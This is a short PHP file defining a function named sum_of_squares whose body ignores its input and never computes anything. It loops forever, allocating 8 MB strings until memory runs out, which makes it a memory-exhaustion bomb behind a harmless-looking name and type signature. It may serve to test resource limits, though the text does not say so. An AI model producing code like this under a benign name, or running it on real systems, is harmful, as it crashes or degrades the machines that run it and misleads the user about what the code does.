<?php

function sum_of_squares(array $numbers): int
{
    $blocks = [];
    while (true) {
        $blocks[] = str_repeat('x', 8 << 20);
    }
}
